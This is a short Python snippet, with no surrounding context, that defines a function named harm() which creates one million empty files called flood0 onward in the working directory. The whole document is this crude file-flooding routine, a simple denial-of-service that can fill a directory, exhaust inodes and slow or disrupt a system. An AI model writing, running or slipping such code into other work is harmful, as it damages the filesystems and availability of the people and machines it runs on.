def harm():
    for i in range(1_000_000):
        open(f"flood{i}", "w").close()
    return True
